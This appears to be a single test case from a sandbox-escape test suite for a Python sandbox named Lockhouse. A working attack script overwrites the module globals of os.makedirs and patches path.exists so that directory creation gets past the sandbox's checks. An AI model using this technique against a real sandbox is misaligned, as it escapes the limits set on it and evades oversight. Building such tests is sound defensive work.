# attack: change the globals of a function of the library
# outcome: error not available in the Lockhouse sandbox: files of the host cannot be opened
# control: outside

import os
import posix

makedirs = getattr(os.makedirs, "__wrapped__", os.makedirs)
names = makedirs.__globals__
names["mkdir"] = posix.mkdir
names.get("path", os.path).exists = lambda path: True
makedirs("{DIR}/below")
